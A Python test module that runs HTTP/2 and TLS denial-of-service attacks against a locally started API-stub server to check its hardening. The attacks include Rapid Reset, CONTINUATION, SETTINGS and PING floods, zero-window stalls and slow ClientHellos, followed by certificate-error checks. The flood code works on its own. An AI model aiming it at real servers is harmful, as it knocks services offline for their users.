"""The TLS and HTTP/2 attacks of issue #34 (`apicheck serve --tls`, `apicheck crawl --cacert`).

Imported by attacks.py, which lists and runs them. Pure standard library: the HTTP/2 frames
(RFC 9113) and the little HPACK (RFC 7541) a client needs are written by hand here, so each attack
controls every byte. TLS goes through memory BIOs over a non-blocking socket: one thread can then
flood, stop reading, or read, without ever blocking on the other direction.

ATTACK_TLS_PORT=PORT ATTACK_TLS_PID=PID runs the server attacks against a server already
listening there instead (e.g. nginx, for comparison: it must answer GET / and GET /big, 8 MB).
"""
import http.server
import os
import re
import select
import shutil
import socket
import ssl
import struct
import subprocess
import tempfile
import threading
import time

A = None  # the attacks module: report, start_server, rss_mb, cpu_seconds (set by use())


def use(module):
    global A
    A = module


# MARK: HTTP/2 and HPACK, just enough

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS = 0x4, 0x3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
          "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
          "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings_payload(values):
    return b"".join(struct.pack(">HI", key, value) for key, value in values.items())


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def hpack_string(text):
    data = text.encode() if isinstance(text, str) else text
    return hpack_int(len(data), 7) + data  # no Huffman: the bytes as written


def request_block(path="/", authority="127.0.0.1"):
    # 0x82 :method GET, 0x87 :scheme https, 0x84 :path / (static table, indexed); otherwise :path
    # and :authority as literals without indexing, name indexes 4 and 1.
    block = b"\x82\x87" + (b"\x84" if path == "/" else b"\x04" + hpack_string(path))
    return block + b"\x01" + hpack_string(authority)


STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def huffman_digits(data):
    """A Huffman-coded status: digits only (5-bit codes for 0-2, 6-bit for 3-9), else None."""
    bits = "".join(f"{b:08b}" for b in data)
    digits, at = "", 0
    while len(digits) < 3 and at + 5 <= len(bits):
        code = int(bits[at:at + 5], 2)
        if code <= 2:
            digits, at = digits + str(code), at + 5
        elif at + 6 <= len(bits) and 0x19 <= int(bits[at:at + 6], 2) <= 0x1F:
            digits, at = digits + str(int(bits[at:at + 6], 2) - 0x19 + 3), at + 6
        else:
            return None
    return digits


def status_of(block):
    """The :status of a response header block (the first field a server sends), or None."""
    at = 0
    while at < len(block) and block[at] & 0xE0 == 0x20:  # dynamic table size updates first
        full, at = block[at] & 0x1F == 0x1F, at + 1
        while full and at < len(block):
            full, at = block[at] & 0x80, at + 1
    if at >= len(block):
        return None
    first = block[at]
    if first & 0x80:
        return STATIC_STATUS.get(first & 0x7F)
    index = first & 0x3F if first & 0xC0 == 0x40 else first & 0x0F
    if index not in STATIC_STATUS or at + 1 >= len(block):
        return None
    length = block[at + 1] & 0x7F
    value = block[at + 2:at + 2 + length]
    text = huffman_digits(value) if block[at + 1] & 0x80 else value.decode(errors="replace")
    return int(text) if text and text.isdigit() else None


# MARK: TLS through memory BIOs


def client_context(alpn, verify=False):
    context = ssl.create_default_context()
    if not verify:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    return context


class TLS:
    """A TLS client over a non-blocking socket. write() queues; pump() sends what the peer takes
    and, when asked, reads what arrived. Nothing blocks, so a flood can stop reading on purpose."""

    def __init__(self, port, alpn=("h2",), timeout=5, receive_buffer=None):
        self.raw = socket.socket()
        if receive_buffer:  # before connecting: the window the kernel offers follows it
            self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.raw.settimeout(timeout)
        self.raw.connect(("127.0.0.1", port))
        self.inbio, self.outbio = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = client_context(alpn).wrap_bio(self.inbio, self.outbio, server_hostname="localhost")
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.raw.sendall(self.outbio.read())
                data = self.raw.recv(65536)
                if not data:
                    raise ConnectionError("closed during the TLS handshake")
                self.inbio.write(data)
        self.raw.sendall(self.outbio.read())
        self.raw.setblocking(False)
        self.alpn = self.tls.selected_alpn_protocol()
        self.out, self.received, self.eof, self.sent = bytearray(), bytearray(), False, 0

    def write(self, data):
        self.tls.write(data)
        self.out += self.outbio.read()

    def pump(self, wait=0.0, read=True):
        readable, writable, _ = select.select([self.raw] if read and not self.eof else [],
                                              [self.raw] if self.out and not self.eof else [], [], wait)
        if writable:
            try:
                sent = self.raw.send(self.out)
                del self.out[:sent]
                self.sent += sent
            except BlockingIOError:
                pass
            except OSError:
                self.eof = True
        if readable:
            try:
                data = self.raw.recv(1 << 18)
            except BlockingIOError:
                data = None
            except OSError:
                data = b""
            if data == b"":
                self.eof = True
            elif data:
                self.inbio.write(data)
            while True:
                try:
                    chunk = self.tls.read(1 << 18)
                except ssl.SSLWantReadError:
                    break
                except ssl.SSLError:  # close_notify, or an alert
                    self.eof = True
                    break
                if not chunk:
                    self.eof = True
                    break
                self.received += chunk
            self.out += self.outbio.read()

    def peer_closed(self):
        """Whether the server closed or reset, seen without reading (TCP_INFO's state)."""
        if self.eof:
            return True
        try:
            return self.raw.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1  # 1: ESTABLISHED
        except OSError:
            return True

    def close(self):
        self.raw.close()


class H2(TLS):
    """An HTTP/2 client connection: the preface and SETTINGS sent, the server's SETTINGS acked."""

    def __init__(self, port, settings=None, timeout=5, receive_buffer=None):
        super().__init__(port, ("h2",), timeout, receive_buffer)
        if self.alpn != "h2":
            raise ConnectionError(f"ALPN chose {self.alpn!r}, not h2")
        self.goaway, self.headers, self.resets = None, {}, 0
        self.write(PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings or {})))
        deadline = time.monotonic() + timeout
        self.settings_seen = False
        while not self.settings_seen and not self.ended and time.monotonic() < deadline:
            self.pump(0.05)
        if not self.settings_seen:
            raise ConnectionError("no SETTINGS from the server")

    @property
    def ended(self):
        return self.eof or self.goaway is not None

    def pump(self, wait=0.0, read=True):
        super().pump(wait, read)
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags = self.received[3], self.received[4]
            stream = int.from_bytes(self.received[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.received[9:9 + length])
            del self.received[:9 + length]
            if kind == SETTINGS and not flags & ACK:
                self.settings_seen = True
                self.write(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.write(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = ERRORS[code] if code < len(ERRORS) else hex(code)
            elif kind == HEADERS:
                self.headers.setdefault(stream, payload if not flags & 0x20 else payload[5:])  # PRIORITY flag: skip its 5 bytes
            elif kind == RST_STREAM:
                self.resets += 1

    def how_ended(self):
        closed = "closed" if self.peer_closed() else "left open"
        return f"GOAWAY {self.goaway}, {closed}" if self.goaway else closed


def h2_get(port, path="/", timeout=3):
    """The status of one GET on a new HTTP/2 connection, or None."""
    try:
        connection = H2(port, timeout=timeout)
        connection.write(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(path)))
        deadline = time.monotonic() + timeout
        while 1 not in connection.headers and not connection.ended and time.monotonic() < deadline:
            connection.pump(0.05)
        connection.close()
        return status_of(connection.headers[1]) if 1 in connection.headers else None
    except (OSError, ConnectionError, ssl.SSLError):
        return None


def h1_tls_get(port, timeout=3):
    """Whether GET / over TLS (ALPN http/1.1) gets a 200 on a new connection."""
    try:
        context = client_context(("http/1.1",))
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as raw:
            with context.wrap_socket(raw, server_hostname="localhost") as s:
                s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                return s.recv(64).startswith(b"HTTP/1.1 200")
    except (OSError, ssl.SSLError):
        return False


def serves_others(port):
    """(HTTP/1.1 over TLS gets 200, HTTP/2 gets 200, seconds both took) on new connections."""
    start = time.monotonic()
    h1, h2 = h1_tls_get(port), h2_get(port) == 200
    return h1, h2, time.monotonic() - start


# MARK: Measuring the server under attack


class Target:
    """`apicheck serve --tls` started here (or the server ATTACK_TLS_PORT/ATTACK_TLS_PID name)."""

    def __init__(self, *extra, paths=("stubs/acmeflix",)):
        self.work = tempfile.mkdtemp(prefix="apicheck-attack-tls-")
        self.process = None
        if os.environ.get("ATTACK_TLS_PORT"):
            self.port, self.pid = int(os.environ["ATTACK_TLS_PORT"]), int(os.environ["ATTACK_TLS_PID"])
            return
        self.tls_dir, self.big = os.path.join(self.work, "tls"), os.path.join(self.work, "stubs")
        os.mkdir(self.tls_dir)
        os.mkdir(self.big)
        # An 8 MB body file: 100 zero-window streams would hold 800 MB if each answer were buffered.
        with open(os.path.join(self.big, "big.bin"), "wb") as handle:
            handle.write(os.urandom(8_000_000))
        with open(os.path.join(self.big, "big.json"), "w") as handle:
            handle.write('{"request": {"method": "GET", "path": "/big"}, "response": {"status": 200,'
                         ' "headers": {"Content-Type": "application/octet-stream"}, "bodyFile": "big.bin"}}')
        self.process, self.port = A.start_server("--tls", "--tls-dir", self.tls_dir, *extra,
                                                 paths=(*paths, self.big))
        self.pid = self.process.pid
        if self.process.poll() is not None:
            raise RuntimeError(f"apicheck serve --tls exited {self.process.returncode}; see its log in {tempfile.gettempdir()}")
        deadline = time.monotonic() + 20  # the first start generates the CA and the certificate
        while not h1_tls_get(self.port, timeout=1) and time.monotonic() < deadline and self.alive():
            time.sleep(0.1)

    def alive(self):
        if self.process is None:
            return os.path.exists(f"/proc/{self.pid}")
        return self.process.poll() is None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.process is not None:
            self.process.terminate()
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        shutil.rmtree(self.work, ignore_errors=True)

    def finish(self, attack, watch=None):
        """The checks every server attack ends with: still running, memory back once the attacker
        left (5 s: the server trims its heap 3 s after a burst), and new clients served."""
        if watch is not None and self.alive():
            time.sleep(5)
            after = A.rss_mb(self.pid)
            A.report(attack, "RSS 5 s after the attacker left (MB), within 20% of idle", f"{after:.0f}", after <= watch.idle * 1.2)
        A.report(attack, "server still running", self.alive(), self.alive())
        h1, h2, seconds = serves_others(self.port)
        A.report(attack, "then a new client: HTTP/1.1+TLS 200, h2 200, in (s)", f"{h1}, {h2}, {seconds:.2f}",
                 h1 and h2 and seconds < 2)


class Watch(threading.Thread):
    """Samples the server's RSS every 50 ms and, every 0.5 s, whether others are served meanwhile."""

    def __init__(self, target, probe=True):
        super().__init__(daemon=True)
        self.target, self.probe, self.running = target, probe, True
        self.idle = A.rss_mb(target.pid)
        self.cpu = A.cpu_seconds(target.pid)
        self.peak, self.worst, self.failed = self.idle, 0.0, 0
        self.start()

    def run(self):
        last_probe = 0.0
        while self.running:
            try:
                self.peak = max(self.peak, A.rss_mb(self.target.pid))
            except OSError:
                return  # the server died; finish() says so
            if self.probe and time.monotonic() - last_probe > 0.5:
                h1, h2, seconds = serves_others(self.target.port)
                self.worst = max(self.worst, seconds)
                self.failed += not (h1 and h2)
                last_probe = time.monotonic()
            time.sleep(0.05)

    def stop(self):
        self.running = False
        self.join()
        try:
            self.cpu = A.cpu_seconds(self.target.pid) - self.cpu
        except OSError:
            self.cpu = float("nan")
        return self

    def report(self, attack, growth_bound=64):
        A.report(attack, "server peak RSS growth (MB), idle; CPU (s)",
                 f"{self.peak - self.idle:.0f} (idle {self.idle:.0f}); {self.cpu:.2f}", self.peak - self.idle < growth_bound)
        if self.probe:
            A.report(attack, "others meanwhile: failed probes, worst (s)", f"{self.failed}, {self.worst:.2f}",
                     self.failed == 0 and self.worst < 2)


def wait_closed(connection, seconds, read=False):
    """Seconds until the server closed the connection, or None."""
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        if connection.peer_closed():
            return time.monotonic() - start
        connection.pump(0.1, read=read)
    return None


IDLE = 5  # --idle-timeout of the server under attack: short, so closing by it shows within a run


class Flood:
    """Sends batches as fast as the server takes them until `batches` are sent, the server closes
    the connection, or it stops reading for 5 s. A hostile client ignores GOAWAY, so the flood
    goes on after one: only closing the connection stops it."""

    def __init__(self, connection, batch, batches, read=True):
        self.queued, self.stalled, self.goaway_at = 0, False, None
        start = last_progress = time.monotonic()
        last_sent = 0
        while (self.queued < batches or connection.out) and not connection.peer_closed():
            if self.queued < batches and len(connection.out) < 1 << 18:
                connection.write(batch(self.queued) if callable(batch) else batch)
                self.queued += 1
            connection.pump(0.005, read=read)
            if connection.goaway and self.goaway_at is None:
                self.goaway_at = connection.sent
            if connection.sent != last_sent:
                last_progress, last_sent = time.monotonic(), connection.sent
            elif time.monotonic() - last_progress > 5:
                self.stalled = True
                break
        self.seconds = time.monotonic() - start
        self.closed = connection.peer_closed()


def attack_h2_rapid_reset(pairs=100_000):
    name = "h2-rapid-reset"
    with Target("--idle-timeout", str(IDLE)) as target:
        connection = H2(target.port)
        watch = Watch(target)
        block, cancel = request_block(), struct.pack(">I", 8)
        pair = len(frame(HEADERS, END_STREAM | END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, cancel))
        # Each stream opened and cancelled at once: work for the server per pair, none of it held
        # back by the concurrent-streams limit (CVE-2023-44487).
        def batch(index):
            return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, block) + frame(RST_STREAM, 0, s, cancel)
                            for s in range(200 * index + 1, 200 * index + 200, 2))
        flood = Flood(connection, batch, pairs // 100)
        closed = 0.0 if flood.closed else wait_closed(connection, 10, read=True)
        watch.stop()
        A.report(name, f"{pairs:,} HEADERS+RST_STREAM: pairs sent, in (s)",
                 f"{min(flood.queued * 100, connection.sent // pair):,}, {flood.seconds:.1f}" + (" (then it stopped reading)" if flood.stalled else ""))
        A.report(name, "responses the server still began (HEADERS frames)", len(connection.headers))
        goaway = f"GOAWAY {connection.goaway} after ~{flood.goaway_at // pair:,} pairs" if connection.goaway else "no GOAWAY"
        A.report(name, "the server's answer; then closed within 10 s", f"{goaway}; {closed is not None}",
                 closed is not None or connection.goaway is None)
        watch.report(name)
        connection.close()
        target.finish(name, watch)


def attack_h2_continuation_flood(total=10_000_000):
    name = "h2-continuation-flood"
    with Target("--idle-timeout", str(IDLE)) as target:
        connection = H2(target.port)
        watch = Watch(target)
        # A header block that never ends: valid literal fields, so a decoder working field by field
        # has to count them too (CVE-2024-27316).
        connection.write(frame(HEADERS, 0, 1, request_block()))
        field = b"\x00" + hpack_string("x-flood") + hpack_string("a" * 100)
        continuation = frame(CONTINUATION, 0, 1, field * (16384 // len(field)))
        flood = Flood(connection, continuation, total // len(continuation))
        closed = 0.0 if flood.closed else wait_closed(connection, 10 * IDLE + 5, read=True)
        watch.stop()
        goaway = f"GOAWAY {connection.goaway} after {flood.goaway_at / 1e6:.2f} MB" if connection.goaway else "no GOAWAY"
        A.report(name, f"CONTINUATION MB sent, of {total / 1e6:.0f}; the server's answer",
                 f"{connection.sent / 1e6:.2f}" + (" (then it stopped reading)" if flood.stalled else "") + f"; {goaway}")
        A.report(name, "the server closed the connection before the end",
                 "no" if closed is None else f"yes, {flood.seconds + closed:.1f} s after the first byte",
                 flood.closed)
        watch.report(name)
        connection.close()
        target.finish(name, watch)


def flood_without_reading(name, control_frame, count=5_000_000):
    with Target("--idle-timeout", str(IDLE)) as target:
        connection = H2(target.port, receive_buffer=1 << 16)
        watch = Watch(target)
        # Never read, with a small receive buffer: every ack the server owes waits in its own
        # buffers once the sockets' are full (5,000,000 PING acks are 85 MB, SETTINGS acks 45 MB).
        flood = Flood(connection, control_frame * 1000, count // 1000, read=False)
        closed = 0.0 if flood.closed else wait_closed(connection, 10 * IDLE + 5)
        watch.stop()
        taken = min(flood.queued * 1000, connection.sent // len(control_frame))
        A.report(name, f"{count:,} frames, never reading: sent before the end", f"{taken:,}" + (" (then it stopped reading)" if flood.stalled else ""))
        A.report(name, "the server closed the connection, after (s)",
                 "no" if closed is None else f"yes, {flood.seconds + closed:.1f}", closed is not None)
        watch.report(name, growth_bound=32)
        connection.close()
        target.finish(name, watch)


def attack_h2_settings_flood():
    flood_without_reading("h2-settings-flood", frame(SETTINGS, 0, 0, settings_payload({MAX_CONCURRENT_STREAMS: 100})))


def attack_h2_ping_flood():
    flood_without_reading("h2-ping-flood", frame(PING, 0, 0, b"attack!!"))


def attack_h2_zero_window(streams=100):
    name = "h2-zero-window"
    with Target("--idle-timeout", str(IDLE)) as target:
        # Stream windows 0 from the start. The connection window cannot be lowered below 65,535,
        # but no DATA can be sent on a stream with no window, so nothing of the bodies gets out.
        connection = H2(target.port, settings={INITIAL_WINDOW_SIZE: 0})
        watch = Watch(target)
        connection.write(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, request_block("/big"))
                                  for s in range(1, 2 * streams, 2)))
        while connection.out:
            connection.pump(0.05, read=False)
        closed = wait_closed(connection, 10 * IDLE + 10)
        watch.stop()
        A.report(name, f"{streams} GETs of 8 MB, windows 0, not reading: closed after (s)",
                 "still open" if closed is None else f"{closed:.1f}", closed is not None)
        watch.report(name)
        connection.close()
        target.finish(name, watch)


def client_hello():
    """The first flight of a real TLS client: what the dripping clients send."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_context(("h2", "http/1.1")).wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def attack_tls_hello_bytewise(clients=50, header_timeout=5):
    name = "tls-hello-bytewise"
    with Target("--header-timeout", str(header_timeout), "--idle-timeout", "30") as target:
        watch = Watch(target)
        hellos, sockets, closed_at = [], [], {}
        for _ in range(clients):
            hellos.append(client_hello())
            sockets.append(socket.create_connection(("127.0.0.1", target.port), timeout=1))
            sockets[-1].setblocking(False)
        start, sent = time.monotonic(), 0
        # One byte a second each, for up to three header timeouts (a ClientHello is ~500 bytes).
        while len(closed_at) < clients and time.monotonic() - start < 3 * header_timeout + 5:
            for index, s in enumerate(sockets):
                if index in closed_at:
                    continue
                try:
                    if s.recv(4096) == b"":
                        closed_at[index] = time.monotonic() - start
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    closed_at[index] = time.monotonic() - start
                    continue
                try:
                    s.send(hellos[index][sent:sent + 1])
                except OSError:
                    closed_at[index] = time.monotonic() - start
            sent += 1
            time.sleep(1)
        watch.stop()
        latest = max(closed_at.values()) if closed_at else None
        A.report(name, f"{clients} ClientHellos at 1 byte/s, --header-timeout {header_timeout}: closed",
                 f"{len(closed_at)}, the last after {latest:.1f} s" if latest else "0",
                 len(closed_at) == clients and latest <= header_timeout + 3)
        watch.report(name)
        for s in sockets:
            s.close()
        target.finish(name, watch)


def attack_tls_plaintext():
    name = "tls-plaintext"
    with Target() as target:
        cases = {"GET / HTTP/1.1 in clear": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
                 "h2 preface in clear": PREFACE + frame(SETTINGS, 0, 0)}
        for case, data in cases.items():
            start, answer = time.monotonic(), b""
            try:
                with socket.create_connection(("127.0.0.1", target.port), timeout=5) as s:
                    s.sendall(data)
                    while True:
                        chunk = s.recv(4096)
                        if not chunk:
                            break
                        answer += chunk
                seconds = time.monotonic() - start
            except socket.timeout:
                seconds = None
            except OSError:
                seconds = time.monotonic() - start  # a reset is a close too
            kind = "TLS alert" if answer[:1] == b"\x15" else (repr(answer[:24]) if answer else "nothing")
            A.report(name, f"{case}: answer, closed after (s)",
                     f"{kind}, {'not within 5' if seconds is None else f'{seconds:.2f}'}", seconds is not None and seconds < 3)
        # And many at once: each costs a failed handshake, none may stay.
        start, sockets = time.monotonic(), []
        for _ in range(200):
            s = socket.create_connection(("127.0.0.1", target.port), timeout=5)
            s.sendall(cases["GET / HTTP/1.1 in clear"])
            sockets.append(s)
        open_after = 0
        for s in sockets:
            try:
                while s.recv(4096):
                    pass
            except socket.timeout:
                open_after += 1
            except OSError:
                pass
            s.close()
        A.report(name, "200 at once: still open 5 s later; all done in (s)", f"{open_after}, {time.monotonic() - start:.1f}", open_after == 0)
        target.finish(name)


def openssl(*arguments, cwd):
    subprocess.run(["openssl", *arguments], cwd=cwd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def make_certificates(directory):
    """A CA, and signed by it: good (127.0.0.1), wrong-host (other.example), expired (127.0.0.1,
    January 2020, through `openssl ca -startdate -enddate`: OpenSSL 3.0's x509 cannot back-date)."""
    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca-key.pem", "-out", "ca.pem", "-days", "30",
            "-subj", "/CN=APICheck attack CA", "-addext", "basicConstraints=critical,CA:TRUE",
            "-addext", "keyUsage=critical,keyCertSign,cRLSign", cwd=directory)
    with open(os.path.join(directory, "ca.cnf"), "w") as handle:
        handle.write("[ca]\ndefault_ca = own\n[own]\ndir = .\ndatabase = index.txt\nnew_certs_dir = .\n"
                     "serial = serial\ncertificate = ca.pem\nprivate_key = ca-key.pem\ndefault_md = sha256\n"
                     "policy = any\nunique_subject = no\n[any]\ncommonName = supplied\n")
    open(os.path.join(directory, "index.txt"), "w").close()
    with open(os.path.join(directory, "serial"), "w") as handle:
        handle.write("1000\n")
    for name, subject, san, dates in (("good", "127.0.0.1", "IP:127.0.0.1,DNS:localhost", None),
                                      ("wronghost", "other.example", "DNS:other.example", None),
                                      ("expired", "127.0.0.1", "IP:127.0.0.1,DNS:localhost", ("20200101000000Z", "20200201000000Z"))):
        with open(os.path.join(directory, f"{name}.ext"), "w") as handle:
            handle.write(f"subjectAltName = {san}\nbasicConstraints = CA:FALSE\nextendedKeyUsage = serverAuth\n")
        openssl("req", "-newkey", "rsa:2048", "-nodes", "-keyout", f"{name}-key.pem", "-out", f"{name}.csr",
                "-subj", f"/CN={subject}", cwd=directory)
        validity = ["-startdate", dates[0], "-enddate", dates[1]] if dates else ["-days", "30"]
        openssl("ca", "-batch", "-config", "ca.cnf", "-notext", "-in", f"{name}.csr", "-out", f"{name}.pem",
                "-extfile", f"{name}.ext", *validity, cwd=directory)


class QuietHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b'{"_links": {"self": {"href": "/"}}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/hal+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class QuietServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_):
        pass  # the handshakes the crawler refuses, on purpose


def https_server(certificate, key):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    server = QuietServer(("127.0.0.1", 0), QuietHandler)
    # The handshake in the handler's thread, not in accept: a refused one must not stop the server.
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"https://127.0.0.1:{server.server_address[1]}/"


def crawl_said(arguments, timeout=60):
    """Runs `apicheck crawl`: (exit code, seconds, everything it said: output, errors, JSON report)."""
    out = tempfile.mktemp(suffix=".json")
    start = time.monotonic()
    try:
        done = subprocess.run([A.APICHECK, "crawl", *arguments, "--timeout", "30", "--format", "json", "--output", out],
                              capture_output=True, text=True, timeout=timeout)
        code, said = done.returncode, done.stdout + done.stderr
    except subprocess.TimeoutExpired:
        code, said = None, ""
    if os.path.exists(out):
        with open(out) as handle:
            said += handle.read()
        os.unlink(out)
    return code, time.monotonic() - start, said


def excerpt(said, pattern):
    """The words around the first match, from the line it is on."""
    match = re.search(pattern, said)
    if not match:
        return "(no such message)"
    line_start = said.rfind("\n", 0, match.start()) + 1
    line_end = said.find("\n", match.end())
    line = said[line_start:line_end if line_end >= 0 else len(said)]
    at = match.start() - line_start
    words = line[max(0, at - 80):at + 100].split()
    return " ".join(words[1:] if at > 80 else words)


def attack_crawl_bad_cert():
    name = "crawl-bad-cert"
    directory = tempfile.mkdtemp(prefix="apicheck-attack-certs-")
    try:
        make_certificates(directory)
        servers = {kind: https_server(os.path.join(directory, f"{kind}.pem"), os.path.join(directory, f"{kind}-key.pem"))
                   for kind in ("good", "wronghost", "expired")}
        ca = os.path.join(directory, "ca.pem")
        # Without --cacert every one of them is also from an unknown CA, so the message should say
        # how to trust it. A refused certificate is final: no reason to spend --timeout (30 s) on it.
        for kind in ("good", "wronghost", "expired"):
            code, seconds, said = crawl_said([servers[kind][1]])
            A.report(name, f"{kind}, no --cacert: exit code, (s)", f"{code}, {seconds:.1f}", code == 2 and seconds < 30)
            A.report(name, f"{kind}, no --cacert: the message names --cacert", excerpt(said, "--cacert"), "--cacert" in said)
            if kind == "good":
                A.report(name, "good, no --cacert: fails at the handshake, < 5 s", f"{seconds:.1f}", seconds < 5)
        code, seconds, said = crawl_said([servers["wronghost"][1], "--cacert", ca])
        pattern = r"(?i)(does ?n[o']t match|mismatch|not match|host ?name|wrong name|is for \S+ not)"
        A.report(name, "wronghost, --cacert: exit code, (s)", f"{code}, {seconds:.1f}", code == 2 and seconds < 30)
        A.report(name, "wronghost, --cacert: says the name does not match", excerpt(said, pattern), bool(re.search(pattern, said)))
        code, seconds, said = crawl_said([servers["expired"][1], "--cacert", ca])
        A.report(name, "expired, --cacert: exit code, (s); says expired", f"{code}, {seconds:.1f}; {excerpt(said, '(?i)expired')}",
                 code == 2 and seconds < 30 and "expired" in said.lower())
        # The controls: the flags let a crawl through when the certificate is right, or not checked.
        code, _, said = crawl_said([servers["good"][1], "--cacert", ca])
        A.report(name, "good, --cacert: exit code (0 or 1: it crawled)", code, code in (0, 1))
        code, _, said = crawl_said([servers["wronghost"][1], "--insecure"])
        A.report(name, "wronghost, --insecure: exit code (0 or 1: it crawled)", code, code in (0, 1))
        for server, _ in servers.values():
            server.shutdown()
    finally:
        shutil.rmtree(directory, ignore_errors=True)


def attack_tls_bad_key():
    name = "tls-bad-key"
    directory = tempfile.mkdtemp(prefix="apicheck-attack-keys-")
    try:
        openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "key.pem", "-out", "cert.pem", "-days", "2",
                "-subj", "/CN=127.0.0.1", cwd=directory)
        openssl("genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", "other-key.pem", cwd=directory)
        with open(os.path.join(directory, "not-pem.crt"), "w") as handle:
            handle.write("this is not a certificate\n")
        cert, key, other, not_pem = (os.path.join(directory, f) for f in ("cert.pem", "key.pem", "other-key.pem", "not-pem.crt"))
        for case, arguments, named in (("key of another certificate", ["--cert", cert, "--key", other], other),
                                       ("--cert not PEM", ["--cert", not_pem, "--key", key], not_pem),
                                       ("--key not PEM", ["--cert", cert, "--key", not_pem], not_pem)):
            start = time.monotonic()
            try:
                done = subprocess.run([A.APICHECK, "serve", "stubs/acmeflix", "--port", "0", "--tls", *arguments],
                                      capture_output=True, text=True, timeout=10)
                code, said = done.returncode, done.stdout + done.stderr
            except subprocess.TimeoutExpired:
                code, said = None, "(still running after 10 s)"
            seconds = time.monotonic() - start
            A.report(name, f"{case}: exit code, (s)", f"{code}, {seconds:.1f}", code not in (None, 0) and seconds < 5)
            A.report(name, f"{case}: names {os.path.basename(named)}", excerpt(said, re.escape(named)) if named in said
                     else " ".join(said.split())[:150], named in said)
    finally:
        shutil.rmtree(directory, ignore_errors=True)


ATTACKS = {
    "h2-rapid-reset": (attack_h2_rapid_reset, "100,000 HEADERS+RST_STREAM on one h2 connection (CVE-2023-44487)"),
    "h2-continuation-flood": (attack_h2_continuation_flood, "a header block of endless CONTINUATION frames, up to 10 MB (CVE-2024-27316)"),
    "h2-settings-flood": (attack_h2_settings_flood, "5,000,000 SETTINGS frames, never reading the acks"),
    "h2-ping-flood": (attack_h2_ping_flood, "5,000,000 PINGs, never reading the acks"),
    "h2-zero-window": (attack_h2_zero_window, "100 streams for an 8 MB body with flow-control windows 0, never reading"),
    "tls-hello-bytewise": (attack_tls_hello_bytewise, "50 connections sending a TLS ClientHello at 1 byte/s"),
    "tls-plaintext": (attack_tls_plaintext, "plain HTTP/1.1 and the h2 preface sent in clear to the TLS port"),
    "tls-bad-key": (attack_tls_bad_key, "serve --cert/--key: a key of another certificate, files that are not PEM"),
    "crawl-bad-cert": (attack_crawl_bad_cert, "crawl an HTTPS API with a wrong-host and an expired certificate"),
}
